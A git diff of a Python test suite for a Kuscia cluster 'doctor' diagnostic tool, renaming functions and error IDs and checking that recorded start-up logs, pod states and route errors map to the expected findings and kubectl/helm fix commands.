@@ -1,4 +1,4 @@
-"""What `doctor` makes of evidence: of each recorded start-up, of each step's words, of what the APIs say."""
+"""The findings of `doctor` in recorded starts of Kuscia, in errors of the steps and in the state of the cluster."""
 
 from dataclasses import replace
 from typing import Any
@@ -7,9 +7,12 @@ import pytest
 
 from kuscia_hooks.core.config import Release
 from kuscia_hooks.inspect import diagnosis
-from kuscia_hooks.inspect.diagnosis import judge
+from kuscia_hooks.inspect.diagnosis import diagnose
 from kuscia_hooks.inspect.finding import Finding
+from kuscia_hooks.inspect.report import Report
+from kuscia_hooks.inspect.snapshot import MASTER as MASTER_GATEWAY
 from kuscia_hooks.inspect.snapshot import ContainerState, PodState, Probe, Snapshot, WarningEvent
+from kuscia_hooks.inspect.status import RouteState
 from tests.hooks.conftest import RECORDINGS
 
 API = {"endpoint": "https://own:8082", "protocol": "TLS"}
@@ -49,18 +52,20 @@ LITE = Release.model_validate(
 
 
 def kuscia(config: Release, log: str, **more: Any) -> Snapshot:
-    """The node's pod with a container that is not ready."""
+    """Return a snapshot with a Kuscia container that is not ready."""
     container = ContainerState(config.mode, log=log, end_code=more.pop("end_code", 0), **more)
     return Snapshot(node=PodState("ns", "the-pod", config.mode, "Running", containers=(container,)))
 
 
 def step(config: Release, log: str, name: str = "prepare") -> Snapshot:
-    """The node's pod while `prepare` waits, or the pod of another step."""
+    """Return a snapshot of the Kuscia pod while `prepare` waits, or of the pod of another step."""
     pod = PodState("ns", "the-pod", name, "Pending", containers=(ContainerState(name, running=True, log=log),))
-    return Snapshot(node=pod) if name == "prepare" else replace(WELL, steps=(pod,))
+    return Snapshot(node=pod) if name == "prepare" else replace(HEALTHY, steps=(pod,))
 
 
-WELL = Snapshot(node=PodState("ns", "the-pod", "master", "Running", containers=(ContainerState("master", ready=True),)))
+HEALTHY = Snapshot(
+    node=PodState("ns", "the-pod", "master", "Running", containers=(ContainerState("master", ready=True),))
+)
 
 
 def only(findings: list[Finding]) -> Finding:
@@ -69,23 +74,23 @@ def only(findings: list[Finding]) -> Finding:
 
 
 STARTUPS = {
-    "badendpoint": (LITE, "no-such-host", "lite.master.endpoint="),
-    "badkey": (MASTER, "bad-key", "kubectl rollout restart deployment/kuscia-master -n ns"),
-    "badmode": (LITE, "bad-mode", "kubectl get configmap kuscia-lite-carl-config -n ns"),
+    "badendpoint": (LITE, "host-not-found", "lite.master.endpoint="),
+    "badkey": (MASTER, "invalid-domain-key", "kubectl rollout restart deployment/kuscia-master -n ns"),
+    "badmode": (LITE, "unknown-mode", "kubectl get configmap kuscia-lite-carl-config -n ns"),
     "badpw": (MASTER, "database-login", "kubectl edit secret db -n ns"),
-    "badtoken-newkey": (LITE, "token-wrong", "master.domains.carl.allowRekey=true"),
-    "badtoken-samekey": (LITE, "handshake-times-out", "kubectl rollout restart deployment/kuscia-lite-carl -n ns"),
-    "dashdb": (MASTER, "no-database", "CREATE DATABASE kuscia"),
+    "badtoken-newkey": (LITE, "deploy-token-mismatch", "master.domains.carl.allowRekey=true"),
+    "badtoken-samekey": (LITE, "handshake-timeout", "kubectl rollout restart deployment/kuscia-lite-carl -n ns"),
+    "dashdb": (MASTER, "database-not-found", "CREATE DATABASE `kuscia`"),
     "dbdown": (MASTER, "database-unreachable", "db.example.com"),
     "https-to-http": (
         LITE,
         "wrong-scheme",
         "lite.master.endpoint=http://kuscia-master.kuscia-x-master.svc.cluster.local:1080",
     ),
-    "nodb": (MASTER, "no-database", "CREATE DATABASE kuscia"),
-    "noid": (LITE, "no-domain-id", "kubectl get configmap kuscia-lite-carl-config -n ns"),
-    "reserved": (LITE, "reserved-id", "kubectl get configmap kuscia-lite-carl-config -n ns"),
-    "runc": (LITE, "runc-unprivileged", "lite.runtime=runk"),
+    "nodb": (MASTER, "database-not-found", "CREATE DATABASE `kuscia`"),
+    "noid": (LITE, "domain-id-missing", "kubectl get configmap kuscia-lite-carl-config -n ns"),
+    "reserved": (LITE, "reserved-domain-id", "kubectl get configmap kuscia-lite-carl-config -n ns"),
+    "runc": (LITE, "runc-requires-privileged", "lite.runtime=runk"),
     "unknown-domain": (LITE, "unknown-domain", f"master.domains.dora.endpoint={GATEWAY}"),
 }
 
@@ -94,46 +99,46 @@ def recorded(name: str) -> str:
     return (RECORDINGS / f"startup-cases/{name}.log").read_text()
 
 
-def test_every_recorded_startup_is_here() -> None:
+def test_covers_every_recorded_startup() -> None:
     assert {path.stem for path in (RECORDINGS / "startup-cases").glob("*.log")} == {*STARTUPS, "sqlite"}
 
 
 @pytest.mark.parametrize("name", STARTUPS)
 @pytest.mark.parametrize("run", ["log", "previous"])
-def test_recorded_startup(name: str, run: str) -> None:
-    config, cause, cure = STARTUPS[name]
+def test_recognizes_recorded_startup(name: str, run: str) -> None:
+    config, cause, fix = STARTUPS[name]
     log = {"log": recorded(name)} if run == "log" else {"log": "starting", "previous": recorded(name)}
-    found = only(judge(config, kuscia(config, **log)))
-    assert found.name == cause
-    assert cure in found.cure
+    found = only(diagnose(config, kuscia(config, **log)))
+    assert found.id == cause
+    assert fix in found.fix
     assert "ns/the-pod" in found.seen
-    assert not {"{", "}"} & set(found.cure.replace("{.data}", ""))
+    assert not {"{", "}"} & set(found.fix.replace("{.data}", ""))
 
 
-def test_a_good_start_is_no_cause() -> None:
-    """Its log is full of errors that pass."""
-    well = kuscia(MASTER, recorded("sqlite"), ready=True, end_code=None)
-    assert judge(MASTER, well) == []
+def test_finds_nothing_in_log_of_successful_start() -> None:
+    """That log has many transient errors."""
+    healthy = kuscia(MASTER, recorded("sqlite"), ready=True, end_code=None)
+    assert diagnose(MASTER, healthy) == []
     starting = kuscia(MASTER, recorded("sqlite"), end_code=None, running=True)
-    assert judge(MASTER, starting) == []
+    assert diagnose(MASTER, starting) == []
 
 
-def test_a_ready_node_is_not_judged_by_its_past() -> None:
-    assert judge(MASTER, kuscia(MASTER, recorded("badpw"), ready=True)) == []
+def test_ignores_earlier_failure_of_ready_node() -> None:
+    assert diagnose(MASTER, kuscia(MASTER, recorded("badpw"), ready=True)) == []
 
 
 @pytest.mark.parametrize(
     ("config", "line", "cause"),
     [
-        (LITE, "detail -> deploy token found but used, please use an unused deploy token", "token-used"),
-        (LITE, "response status code [500], detail -> deploytokenstatus of domain is empty", "token-pending"),
+        (LITE, "detail -> deploy token found but used, please use an unused deploy token", "deploy-token-used"),
+        (LITE, "response status code [500], detail -> deploytokenstatus of domain is empty", "deploy-token-pending"),
         (LITE, "duplicate node name with other domain, please change this node's name", "node-name-taken"),
-        (LITE, "[Module] agent is finished with err=capacity config is empty", "no-capacity"),
-        (LITE, "failed to get in cluster config, err: open /var/run/secrets: no such file", "no-service-account"),
+        (LITE, "[Module] agent is finished with err=capacity config is empty", "runk-requires-capacity"),
+        (LITE, "failed to get in cluster config, err: open /var/run: no such file", "service-account-token-missing"),
         (LITE, 'pods "test" is forbidden: User "x" cannot get resource "pods"', "runk-forbidden"),
         (LITE, "host IP unknown", "no-eth0"),
-        (LITE, "failed to create fsnotify watcher: too many open files", "inotify"),
-        (LITE, "unknown runtime: ", "bad-runtime"),
+        (LITE, "failed to create fsnotify watcher: too many open files", "inotify-limit"),
+        (LITE, "unknown runtime: ", "unknown-runtime"),
         (LITE, f"[PROBE] failed to probe master endpoint {MASTER_ENDPOINT}, detail-> dial tcp 1.2.3.4:1080: "
          "connect: connection refused", "master-down"),
         (LITE, f"[PROBE] failed to probe master endpoint {MASTER_ENDPOINT}, detail-> dial tcp 1.2.3.4: i/o timeout",
@@ -144,8 +149,8 @@ def test_a_ready_node_is_not_judged_by_its_past() -> None:
          '"http://m.x:1080": EOF', "wrong-scheme"),
         (MASTER, "ping datastore endpoint error: Error 1040: Too many connections", "too-many-connections"),
         (MASTER, "ping datastore endpoint error: pq: password authentication failed for user \"k\"", "database-login"),
-        (MASTER, 'ping datastore endpoint error: pq: database "k" does not exist', "no-database"),
-        (MASTER, "ping datastore endpoint error: this authentication plugin is not supported", "database-other"),
+        (MASTER, 'ping datastore endpoint error: pq: database "k" does not exist', "database-not-found"),
+        (MASTER, "ping datastore endpoint error: this authentication plugin is not supported", "database-error"),
         (MASTER, "FATAL error building kubernetes client config from token, detail-> stat "
          "/home/kuscia/etc/kubeconfig: no such file or directory", "state-of-another-domain"),
         (MASTER, 'time="2026" level=fatal msg="starting kubernetes: preparing server: bootstrap data already found and '
@@ -155,119 +160,148 @@ def test_a_ready_node_is_not_judged_by_its_past() -> None:
          "state-of-another-domain"),
         (MASTER, "[Module] k3s wait ready failed with wait k3s ready timeout, so start gracefulExit", "k3s-not-ready"),
         (MASTER, "ERROR tls/crypt.go:337 load key data failed: invalid private key, should be PEM block format, try "
-         "key file", "bad-key"),
-        (MASTER, "FATAL modules/runtime.go:195 can't parse key", "bad-key"),
-        (LITE, "Domain key data is empty. Please provide a valid domainKeyData.", "bad-key"),
-        (LITE, "Load domain key file error: illegal base64 data at input byte 4", "bad-key"),
-        (LITE, "Decode domain key data error: can't parse key", "bad-key"),
-        (MASTER, "Load kuscia config failed. protocol: XTLS is unsupported", "bad-protocol"),
+         "key file", "invalid-domain-key"),
+        (MASTER, "FATAL modules/runtime.go:195 can't parse key", "invalid-domain-key"),
+        (LITE, "Domain key data is empty. Please provide a valid domainKeyData.", "invalid-domain-key"),
+        (LITE, "Load domain key file error: illegal base64 data at input byte 4", "invalid-domain-key"),
+        (LITE, "Decode domain key data error: can't parse key", "invalid-domain-key"),
+        (MASTER, "Load kuscia config failed. protocol: XTLS is unsupported", "unknown-protocol"),
     ],
 )  # fmt: skip
-def test_line_of_kuscia(config: Release, line: str, cause: str) -> None:
-    found = only(judge(config, kuscia(config, f"2026-11-24 01:10:07.475 INFO a.go:1 begin\n{line}\nmore\n")))
-    assert found.name == cause
+def test_recognizes_line_of_kuscia(config: Release, line: str, cause: str) -> None:
+    found = only(diagnose(config, kuscia(config, f"2026-11-24 01:10:07.475 INFO a.go:1 begin\n{line}\nmore\n")))
+    assert found.id == cause
     assert found.seen.endswith(line.strip())
 
 
-def test_a_k3s_that_was_interrupted_is_no_cause() -> None:
-    """Another module failed; the supervisor says that of all that was just started."""
+def test_ignores_interrupted_k3s() -> None:
+    """The supervisor prints this for every module that it stops early after another one failed."""
     line = "process [k3s][17] only existed 812 ms, less than 3000 ms, with error: signal: interrupt"
-    found = only(judge(MASTER, kuscia(MASTER, f"{line}\n[Module] coredns is finished with err=x\n")))
-    assert found.name == "unknown-end"
+    found = only(diagnose(MASTER, kuscia(MASTER, f"{line}\n[Module] coredns is finished with err=x\n")))
+    assert found.id == "unknown-exit"
 
 
-def test_scheme_of_a_short_address_is_turned() -> None:
+def test_fix_swaps_http_for_https() -> None:
     log = (
         '[PROBE] failed to probe master endpoint http://m.x:1080, detail-> sending request error: Get "http://m.x": EOF'
     )
-    assert "--set lite.master.endpoint=https://m.x:1080" in only(judge(LITE, kuscia(LITE, log))).cure
+    assert "--set lite.master.endpoint=https://m.x:1080" in only(diagnose(LITE, kuscia(LITE, log))).fix
 
 
-def test_an_end_that_is_not_known_is_said() -> None:
-    found = only(judge(LITE, kuscia(LITE, "something new\n", end_code=3)))
-    assert found.name == "unknown-end"
-    assert "exit code 3" in found.cause
-    assert "--previous" in found.cure
+def test_reports_unknown_exit() -> None:
+    found = only(diagnose(LITE, kuscia(LITE, "something new\n", end_code=3)))
+    assert found.id == "unknown-exit"
+    assert "3" in found.cause
+    assert "--previous" in found.fix
     assert found.seen.endswith("something new")
 
 
 @pytest.mark.parametrize(
-    ("message", "cause", "cure"),
+    ("error_id", "fix"),
     [
-        (f"{MASTER_ENDPOINT} has the wrong scheme: a Kuscia gateway answers at http://m:1080 (…)",
-         "wrong-scheme", "--set lite.master.endpoint=http://m:1080"),
-        (f"no Kuscia gateway answers at {MASTER_ENDPOINT}: [Errno -2] Name or service not known",
-         "no-such-host", "kubectl get service -A"),
-        (f"no Kuscia gateway answers at {MASTER_ENDPOINT}: [Errno 111] Connection refused",
-         "master-down", "kubectl kuscia doctor"),
-        (f"no Kuscia gateway answers at {MASTER_ENDPOINT}: no answer within 5 s", "master-unreachable", "curl"),
-        (f"no Kuscia gateway answers at {MASTER_ENDPOINT}: HTTP 502 instead of 401: something else than a Kuscia "
-         "gateway answers", "not-a-gateway", f"curl -kv {MASTER_ENDPOINT}/"),
-        (f"{MASTER_ENDPOINT} does not know it yet: the master's release has to name it under master.domains.carl",
-         "unknown-domain", f"master.domains.carl.endpoint={GATEWAY}"),
-        ("deploy token mismatch (the token in Secret m/t, key token, is not the domain's unused one. If the …)",
-         "token-wrong", "master.domains.carl.allowRekey=true"),
-        ("refused (the master has another certificate for it. Give its operator …)",
-         "certificate-of-another", "kuscia-lite-carl-domain-cert"),
-        ("the API server refuses to get configmaps engines/kuscia-engines (403: configmaps \"kuscia-engines\" is "
-         "forbidden: User \"x\" cannot get resource). Expected is a Role …", "runk-forbidden", "helm upgrade"),
-        ("the API server refuses to list pods in engines (403: …)", "runk-forbidden", "helm upgrade"),
-        ("the API server refuses what RunK does in engines: this lite's ServiceAccount may not get secrets. …",
-         "runk-forbidden", "helm upgrade"),
-        ("Secret ns/own-domain-key does not exist", "no-secret", "kubectl get secret -n ns"),
+        ("wrong-scheme", f"--set lite.master.endpoint={MASTER_ENDPOINT.replace('https', 'http')}"),
+        ("host-not-found", "kubectl get services -A"),
+        ("master-down", "kubectl kuscia doctor"),
+        ("master-unreachable", f"curl -kv --max-time 5 {MASTER_ENDPOINT}/"),
+        ("not-a-gateway", f"curl -kv {MASTER_ENDPOINT}/"),
+        ("unknown-domain", f"master.domains.carl.endpoint={GATEWAY}"),
+        ("deploy-token-mismatch", "master.domains.carl.allowRekey=true"),
+        ("certificate-mismatch", "kubectl get configmap kuscia-lite-carl-domain-cert -n ns"),
+        ("runk-forbidden", "helm upgrade kuscia ./charts/kuscia -n ns --reuse-values"),
     ],
-)  # fmt: skip
-def test_what_prepare_waits_for(message: str, cause: str, cure: str) -> None:
+)
+def test_replaces_fix_of_prepare_by_command_for_release(error_id: str, fix: str) -> None:
     log = (
-        "waiting for the domain key (0 s): something else before\n    see: kubectl get nothing\n"
-        f"waiting for the master's gateway (20 s): {message}\n    see: kubectl get something\n"
+        "waiting for the domain key (0 s): [secret-not-found] something else\n    fix: an older fix\n"
+        f"waiting for the master (20 of 300 s): [{error_id}] the message\n    fix: the fix of the step\n"
     )
-    found = only(judge(LITE, step(LITE, log)))
-    assert found.name == cause
-    assert found.cause.endswith(message)
-    assert cure in found.cure
+    found = only(diagnose(LITE, step(LITE, log)))
+    assert (found.id, found.cause) == (error_id, "the message")
+    assert fix in found.fix
+    assert "the fix of the step" not in found.fix
 
 
 @pytest.mark.parametrize(
-    ("message", "cause", "cure"),
+    ("error_id", "fix"),
     [
-        ("mysql db.example.com/kuscia: 1045 Access denied (user and password are not the server's; once the …)",
-         "database-login", "kubectl edit secret db -n ns"),
-        ("mysql db.example.com/kuscia: 1049 Unknown database (make it: CREATE DATABASE `kuscia` CHARACTER SET utf8mb4)",
-         "no-database", "CREATE DATABASE `kuscia` CHARACTER SET utf8mb4"),
-        ("mysql kuscia@db.example.com:3306/kuscia: the state in table kine was made for another domainId or with "
-         "another clusterToken, and Kuscia cannot read it. …", "state-of-another-domain", "master.datastore.database="),
+        ("database-login", "kubectl edit secret db -n ns"),
+        ("database-not-found", "CREATE DATABASE `kuscia`"),
+        ("state-of-another-domain", "--set master.datastore.database="),
+        ("too-many-connections", "max_connections"),
     ],
-)  # fmt: skip
-def test_what_a_masters_prepare_waits_for(message: str, cause: str, cure: str) -> None:
-    found = only(judge(MASTER, step(MASTER, f"waiting for the datastore (10 s): {message}\n    see: x\n")))
-    assert (found.name, found.cause) == (cause, message)
-    assert cure in found.cure
+)
+def test_replaces_fix_of_master_prepare_by_command_for_release(error_id: str, fix: str) -> None:
+    found = only(diagnose(MASTER, step(MASTER, f"waiting for the datastore (10 s): [{error_id}] the message\n")))
+    assert (found.id, found.cause) == (error_id, "the message")
+    assert fix in found.fix
 
 
-def test_a_wait_that_is_not_known_keeps_its_own_words_and_command() -> None:
-    log = "waiting for the moon (10 of 60 s): it is new\n    see: kubectl get moon\nunrelated\n"
-    found = only(judge(LITE, step(LITE, log)))
-    assert (found.name, found.cause, found.cure) == ("step-waits", "it is new", "kubectl get moon")
+@pytest.mark.parametrize(
+    ("lines", "fix"),
+    [
+        ("    fix: kubectl create secret\n    see: kubectl get secret\n", "kubectl create secret"),
+        ("    see: kubectl get secret\n", "kubectl get secret"),
+        ("", "kubectl logs the-pod -n ns -c prepare"),
+    ],
+)
+def test_keeps_fix_of_step_for_other_errors(lines: str, fix: str) -> None:
+    log = f"waiting for the key (10 of 60 s): [secret-not-found] Secret ns/x not found\n{lines}unrelated\n"
+    found = only(diagnose(LITE, step(LITE, log)))
+    assert (found.id, found.cause, found.fix) == ("secret-not-found", "Secret ns/x not found", fix)
 
 
-def test_a_step_that_needs_a_human() -> None:
+def test_reports_each_of_several_errors_of_a_step() -> None:
     log = (
-        "created=0\nERROR data needs a human: bucket b does not exist\n    see: kubectl get it\ntrying again in 30 s\n"
+        "ERROR [several-errors] data: 2 errors:\n"
+        "  - [secret-not-found] Secret ns/a not found\n        fix: kubectl create secret a\n"
+        "  - [runk-forbidden] cannot create pods\n"
+        "retrying in 30 s\n"
     )
-    found = only(judge(MASTER, step(MASTER, log, "data")))
-    assert (found.cause, found.cure) == ("bucket b does not exist", "kubectl get it")
+    findings = diagnose(LITE, replace(kuscia(LITE, "", ready=True), steps=step(MASTER, log, "data").steps))
+    assert [(found.id, found.cause) for found in findings] == [
+        ("secret-not-found", "Secret ns/a not found"),
+        ("runk-forbidden", "cannot create pods"),
+    ]
+    assert findings[0].fix == "kubectl create secret a"
+    assert findings[1].fix.startswith("helm upgrade kuscia")
+
+
+def test_reports_termination_message_of_failed_step_without_log() -> None:
+    message = '{"error": "secret-not-found", "message": "Secret ns/x not found", "fix": "kubectl create x"}'
+    container = ContainerState("data", end_code=2, termination=message)
+    pod = PodState("ns", "the-pod", "data", "Failed", containers=(container,))
+    found = only(diagnose(MASTER, replace(HEALTHY, steps=(pod,))))
+    assert (found.id, found.cause, found.fix) == (
+        "secret-not-found",
+        "Secret ns/x not found",
+        "kubectl create x",
+    )
+
+
+def test_reports_failed_step_that_reported_no_error() -> None:
+    container = ContainerState("data", end_code=137, log="Killed\n")
+    found = only(diagnose(MASTER, replace(HEALTHY, steps=(PodState("ns", "p", "data", "Failed", "", (container,)),))))
+    assert found.id == "step-failed"
+    assert "137" in found.cause
+    assert found.seen.endswith("Killed")
+
+
+def test_ignores_errors_of_step_that_succeeded_in_the_end() -> None:
+    log = "waiting for the key (1 s): [secret-not-found] Secret ns/x not found\ncreated=1\n"
+    container = ContainerState("prepare", ready=True, end_code=0, log=log)
+    ready = ContainerState("master", ready=True)
+    assert diagnose(MASTER, Snapshot(node=PodState("ns", "p", "master", "Running", "", (container, ready)))) == []
 
 
 @pytest.mark.parametrize(
     ("pod", "cause"),
     [
-        (PodState("ns", "p", "master", "Pending", unscheduled="0/1 nodes: Insufficient memory"), "unscheduled"),
+        (PodState("ns", "p", "master", "Pending", unscheduled="0/1 nodes: Insufficient memory"), "pod-unscheduled"),
         (
             PodState(
                 "ns", "p", "master", "Pending", containers=(ContainerState("master", waiting="ImagePullBackOff"),)
             ),
-            "image",
+            "image-pull",
         ),
         (
             PodState(
@@ -277,7 +311,7 @@ def test_a_step_that_needs_a_human() -> None:
                 "Pending",
                 containers=(ContainerState("master", waiting="CreateContainerConfigError"),),
             ),
-            "container",
+            "container-create",
         ),
         (
             PodState(
@@ -291,85 +325,92 @@ def test_a_step_that_needs_a_human() -> None:
         ),
     ],
 )
-def test_pod_that_does_not_run(pod: PodState, cause: str) -> None:
-    assert only(judge(MASTER, Snapshot(node=pod))).name == cause
+def test_reports_pod_that_does_not_run(pod: PodState, cause: str) -> None:
+    assert only(diagnose(MASTER, Snapshot(node=pod))).id == cause
 
 
-def test_pod_that_is_not_made() -> None:
+def test_reports_rejected_or_missing_pod() -> None:
     refused = WarningEvent("ns", "kuscia-master-5d5f7c9b7b", "FailedCreate", "exceeded quota: small")
-    found = only(judge(MASTER, Snapshot(warnings=(refused,))))
-    assert found.name == "pod-refused"
+    found = only(diagnose(MASTER, Snapshot(warnings=(refused,))))
+    assert found.id == "pod-not-created"
     assert "exceeded quota" in found.cause
-    assert only(judge(MASTER, Snapshot())).name == "no-pod"
+    assert only(diagnose(MASTER, Snapshot())).id == "no-pod"
 
 
-def test_changed_secret() -> None:
+def test_reports_secret_that_changed_after_start() -> None:
     before = {"secrets": {"own-domain-key/domain.key": "a", "db/password": "b"}, "dnsServers": []}
-    assert judge(MASTER, replace(WELL, started_with=before, present=before)) == []
+    assert diagnose(MASTER, replace(HEALTHY, started_with=before, present=before)) == []
 
     password = {"secrets": {"own-domain-key/domain.key": "a", "db/password": "c"}}
-    found = only(judge(MASTER, replace(WELL, started_with=before, present=password)))
-    assert found.name == "secret-changed"
-    assert "Secret ns/db " in found.cause
-    assert found.cure == "kubectl rollout restart deployment/kuscia-master -n ns"
+    found = only(diagnose(MASTER, replace(HEALTHY, started_with=before, present=password)))
+    assert found.id == "secret-changed"
+    assert "ns/db " in found.cause
+    assert found.fix == "kubectl rollout restart deployment/kuscia-master -n ns"
 
-    # The marks are made with the key: another key says nothing about the password.
+    # The marks are made with the domain key, so a new key changes all of them.
     both = {"secrets": {"own-domain-key/domain.key": "x", "db/password": "y"}}
-    assert "Secret ns/own-domain-key " in only(judge(MASTER, replace(WELL, started_with=before, present=both))).cause
+    assert "ns/own-domain-key " in only(diagnose(MASTER, replace(HEALTHY, started_with=before, present=both))).cause
 
 
-def test_moved_service() -> None:
+def test_reports_recreated_dns_service() -> None:
     evidence = replace(
         kuscia(LITE, "", ready=True), started_with={"dnsServers": ["10.1.1.1"]}, present={"dnsServers": ["10.2.2.2"]}
     )
-    found = only(judge(LITE, evidence))
-    assert found.name == "stale-dns"
-    assert found.cure == "kubectl rollout restart deployment/kuscia-lite-carl -n ns"
+    found = only(diagnose(LITE, evidence))
+    assert found.id == "dns-service-recreated"
+    assert found.fix == "kubectl rollout restart deployment/kuscia-lite-carl -n ns"
 
 
-def test_gateway_of_a_lite_as_its_master_sees_it() -> None:
-    problem = "https://alice:1080 has the wrong scheme: a Kuscia gateway answers at http://alice:1080 (…)"
-    found = only(judge(MASTER, replace(WELL, probes=(Probe("alice", "https://alice:1080", problem),))))
-    assert found.name == "wrong-scheme"
-    assert "--set master.domains.alice.endpoint=http://alice:1080" in found.cure
+def test_fix_for_gateway_of_lite_names_its_endpoint_and_namespace() -> None:
+    wrong = Probe("alice", "https://alice:1080", (Report("wrong-scheme", "wrong scheme"),))
+    found = only(diagnose(MASTER, replace(HEALTHY, probes=(wrong,))))
+    assert found.id == "wrong-scheme"
+    assert "--set master.domains.alice.endpoint=http://alice:1080" in found.fix
 
-    problem = "no Kuscia gateway answers at https://alice:1080: [Errno 111] Connection refused"
-    found = only(judge(MASTER, replace(WELL, probes=(Probe("alice", "https://alice:1080", problem),))))
-    assert "-n lite-alice" in found.cure
+    down = Probe("alice", "https://alice:1080", (Report("master-down", "connection refused"),))
+    assert "-n lite-alice" in only(diagnose(MASTER, replace(HEALTHY, probes=(down,)))).fix
 
 
-def test_domain_that_the_master_does_not_know() -> None:
-    found = only(judge(LITE, replace(kuscia(LITE, "", ready=True), known=False)))
-    assert found.name == "unknown-domain"
-    assert f"master.domains.carl.endpoint={GATEWAY}" in found.cure
+def test_does_not_suggest_values_for_gateway_of_release() -> None:
+    probe = Probe("kuscia-system", GATEWAY, (Report("wrong-scheme", "wrong scheme", see="curl it"),))
+    assert only(diagnose(MASTER, replace(HEALTHY, probes=(probe,)))).fix == "curl it"
+
+
+def test_reports_domain_that_master_does_not_have() -> None:
+    found = only(diagnose(LITE, replace(kuscia(LITE, "", ready=True), known=False)))
+    assert found.id == "unknown-domain"
+    assert f"master.domains.carl.endpoint={GATEWAY}" in found.fix
 
 
 @pytest.mark.parametrize(
-    ("problem", "cure"),
+    ("error_id", "fix"),
     [
-        ("KusciaAPI x refused the token that follows from the domain key: …", "kubectl rollout restart"),
-        ("KusciaAPI x is not reached (timed out)", "kubectl get networkpolicy"),
+        ("kusciaapi-token-rejected", "kubectl rollout restart"),
+        ("kusciaapi-certificate-mismatch", "kubectl rollout restart"),
+        ("kusciaapi-unreachable", "kubectl get networkpolicies"),
     ],
 )
-def test_api_that_cannot_be_used(problem: str, cure: str) -> None:
-    assert cure in only(judge(MASTER, replace(WELL, api=problem))).cure
+def test_reports_unusable_kusciaapi(error_id: str, fix: str) -> None:
+    found = only(diagnose(MASTER, replace(HEALTHY, api=(Report(error_id, "the message", "the fix of the step"),))))
+    assert found.id == error_id
+    assert fix in found.fix
 
 
 def domain(name: str, status: str, node: str = "n") -> dict[str, str]:
     return {"domain": name, "node": node, "status": status, "version": "", "heartbeat": ""}
 
 
-def test_domains() -> None:
+def test_reports_domains_without_ready_node() -> None:
     rows = (domain("alice", "NotReady"), domain("bob", "no such domain", ""))
-    first, second = judge(MASTER, replace(WELL, domains=rows))
-    assert (first.name, second.name) == ("node-not-ready", "no-such-domain")
-    assert "kubectl kuscia doctor -n lite-alice" in first.cure
-    assert "component=register" in second.cure
+    first, second = diagnose(MASTER, replace(HEALTHY, domains=rows))
+    assert (first.id, second.id) == ("node-not-ready", "domain-not-found")
+    assert "kubectl kuscia doctor -n lite-alice" in first.fix
+    assert "component=register" in second.fix
 
 
-def test_an_old_node_beside_a_ready_one_is_nothing() -> None:
+def test_ignores_old_node_next_to_ready_one() -> None:
     rows = (domain("alice", "NotReady", "old"), domain("alice", "Ready", "new"))
-    assert judge(MASTER, replace(WELL, domains=rows)) == []
+    assert diagnose(MASTER, replace(HEALTHY, domains=rows)) == []
 
 
 @pytest.mark.parametrize(
@@ -378,70 +419,106 @@ def test_an_old_node_beside_a_ready_one_is_nothing() -> None:
         ("LastUpdateAt=x, Message=TokenNotGenerate, Reason:DestinationIsNotAuthrized", "route-no-handshake"),
         ("LastUpdateAt=x, Message=TokenNotGenerate, Reason:TokenNotGenerate", "route-no-token"),
         ("LastUpdateAt=x, Message=DestinationUnreachable, Reason:DestinationUnreachable", "route-unreachable"),
-        ("LastUpdateAt=x, Message=HeartBeatTimeout, Reason:HeartBeatTimeout", "route-heartbeat"),
-        ("LastUpdateAt=x, Message=TokenRevisionNotMatch, Reason:TokenRevisionNotMatch", "route-revision"),
-        ("no handshake yet", "route-waits"),
+        ("LastUpdateAt=x, Message=HeartBeatTimeout, Reason:HeartBeatTimeout", "route-heartbeat-timeout"),
+        ("LastUpdateAt=x, Message=TokenRevisionNotMatch, Reason:TokenRevisionNotMatch", "route-revision-mismatch"),
+        ("no handshake yet", "route-not-registered"),
         ("no such route", "route-missing"),
-        ("something new", "route"),
+        ("something new", "route-not-ready"),
     ],
 )
-def test_route_that_is_not_ready(reason: str, cause: str) -> None:
+def test_reports_route_that_is_not_ready(reason: str, cause: str) -> None:
     rows = (
-        {"route": "alice-bob", "endpoint": "https://bob:1080", "ready": "False", "reason": reason},
-        {"route": "bob-alice", "endpoint": "", "ready": "True", "reason": ""},
+        RouteState("alice", "bob", "https://bob:1080", False, reason),
+        RouteState("bob", "alice", "", True, ""),
     )
-    found = only(judge(MASTER, replace(WELL, routes=rows)))
-    assert found.name == cause
+    found = only(diagnose(MASTER, replace(HEALTHY, routes=rows)))
+    assert found.id == cause
     assert "alice-bob" in found.cause
-    assert ("component=routes" if cause == "route-missing" else "curl -kv https://bob:1080/") in found.cure
+    assert ("component=routes" if cause == "route-missing" else "curl -kv https://bob:1080/") in found.fix
 
 
-def test_database_warning() -> None:
-    found = only(judge(MASTER, replace(WELL, database=("MySQL 8.0.20 is older than 8.0.23",))))
-    assert found.cause == "MySQL 8.0.20 is older than 8.0.23"
+def test_names_domains_of_route_with_dashes() -> None:
+    route = RouteState("org-a-node1", "org-b-node1", "https://b:1080", False, "something new")
+    assert "<namespace of org-a-node1>" in only(diagnose(MASTER, replace(HEALTHY, routes=(route,)))).fix
+
+
+def test_missing_route_of_lite_is_fixed_at_its_master() -> None:
+    route = RouteState("carl", "bob", "", False, "no such route")
+    found = only(diagnose(LITE, replace(kuscia(LITE, "", ready=True), routes=(route,))))
+    assert found.id == "route-missing"
+    assert "<master namespace>" in found.fix
+    assert "runId" not in found.fix
+
+
+def test_reports_database_warning() -> None:
+    warning = Report("database-warning", "MySQL 8.0.20 is older than 8.0.23")
+    found = only(diagnose(MASTER, replace(HEALTHY, database=(warning,))))
+    assert (found.id, found.cause) == ("database-warning", warning.message)
 
 
 @pytest.mark.parametrize(
     ("container", "cause"),
     [
-        (ContainerState("e", waiting="ErrImagePull", message="401"), "image"),
+        (ContainerState("e", waiting="ErrImagePull", message="401"), "image-pull"),
         (ContainerState("e", log="x\npthread_create failed: Resource temporarily unavailable\n"), "too-few-threads"),
         (
             ContainerState("e", log="ClientError: An error occurred (400) when calling the ListObjectsV2 operation"),
-            "oss-style",
+            "object-store-address-style",
         ),
-        (ContainerState("e", log="urllib3.exceptions.ReadTimeoutError: Read timed out."), "read-times-out"),
+        (ContainerState("e", log="urllib3.exceptions.ReadTimeoutError: Read timed out."), "read-timeout"),
     ],
 )
-def test_engine(container: ContainerState, cause: str) -> None:
+def test_recognizes_failure_of_engine(container: ContainerState, cause: str) -> None:
     engine = PodState("engines", "job-0", "job", "Pending", containers=(container,))
-    found = only(judge(LITE, replace(kuscia(LITE, "", ready=True), engines=(engine,))))
-    assert found.name == cause
+    found = only(diagnose(LITE, replace(kuscia(LITE, "", ready=True), engines=(engine,))))
+    assert found.id == cause
     assert "engines" in found.seen
 
 
